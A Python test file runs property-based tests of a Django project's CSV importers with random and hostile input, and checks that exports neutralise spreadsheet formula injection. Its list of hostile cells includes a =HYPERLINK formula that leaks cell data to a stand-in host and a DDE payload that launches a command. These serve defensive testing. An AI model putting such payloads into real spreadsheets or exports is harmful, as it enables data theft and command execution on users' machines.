"""Property-based tests (Hypothesis) of every CSV importer with random and hostile input: wrong
encodings, NUL bytes, formulas such as =HYPERLINK(...), huge fields, ragged rows, stray quotes.
Whatever the file, an import either succeeds or is rejected with row errors: it never crashes,
and a rejected file writes nothing. The exports neutralise formula injection."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.apps import apps
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from tremplin.core.csvimport import ImportRejected
from tremplin.core.exports import safe_cell
from tremplin.core.registry import importers

pytestmark = pytest.mark.django_db

KINDS = sorted(importers())
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 1 02 03 04 05",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "x" * 70_000,
    "\x00",
    '"',
    '""""',
    ";;;",
    "\u202e\u0000RTL",
    "Ã©",
    "NFA031",
    "CD MELUN",
    "2019-2020",
    "31/02/2020",
    "validated",
    "-1",
    "1e309",
]
RELAXED = settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def counts() -> dict[str, int]:
    """Row counts of every table that an import can write."""
    return {
        model._meta.label: model._default_manager.count()
        for model in apps.get_models()
        if model._meta.app_label
        in {"places", "catalog", "learners", "enrolment", "followup", "orientation"}
    }


def cells() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(HOSTILE_CELLS),
        st.text(max_size=40),
        st.text(alphabet=st.characters(codec="latin-1"), max_size=20),
    )


@st.composite
def csv_files(draw: st.DrawFn, columns: tuple[str, ...]) -> bytes:
    """A CSV file with the importer's header (sometimes shuffled, cut or extended) and random
    rows, written in a random encoding with a random separator."""
    header = list(draw(st.permutations(columns)))
    if draw(st.booleans()):
        header = header[: draw(st.integers(0, len(header)))]
    if draw(st.integers(0, 5)) == 0:
        header.append(draw(st.sampled_from(["extra", "=1+1", ""])))
    rows = draw(
        st.lists(
            st.lists(cells(), min_size=0, max_size=len(header) + 2),
            max_size=6,
        )
    )
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    text = buffer.getvalue()
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "latin-1"]))
    data = text.encode(encoding, errors="replace")
    if draw(st.integers(0, 6)) == 0:
        data += draw(st.binary(max_size=30))
    return data


@pytest.mark.parametrize("kind", KINDS)
def test_an_import_never_crashes_and_a_rejected_file_or_a_dry_run_writes_nothing(
    kind: str,
) -> None:
    importer_class = importers()[kind]

    @RELAXED
    @given(data=csv_files(importer_class.columns), dry_run=st.booleans())
    def check(data: bytes, dry_run: bool) -> None:
        before = counts()
        try:
            importer_class().run(data, dry_run=dry_run)
        except ImportRejected as rejected:
            assert rejected.errors, "a rejection names its errors"
            for error in rejected.errors:
                assert error.message, error
            assert counts() == before
        else:
            if dry_run:
                assert counts() == before
        # Any other exception fails the test: that is the point.

    check()


@given(value=st.one_of(st.text(), st.sampled_from(HOSTILE_CELLS)))
def test_an_exported_csv_cell_never_starts_a_formula(value: str) -> None:
    cell = safe_cell(value)
    assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert str(cell).endswith(value) or value == ""


@settings(max_examples=50, deadline=None)
@given(values=st.lists(st.sampled_from(HOSTILE_CELLS[:7]) | st.text(max_size=30), max_size=8))
def test_the_spreadsheet_export_stores_formulas_as_text(values: list[str]) -> None:
    from tremplin.reporting.formats.xlsx import _put

    workbook = Workbook()
    sheet = workbook.active
    for row, value in enumerate(values, start=1):
        _put(sheet, row, 1, value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    reread: Any = load_workbook(io.BytesIO(buffer.getvalue())).active
    for row, _ in enumerate(values, start=1):
        cell = reread.cell(row=row, column=1)
        assert cell.data_type != "f", cell.value
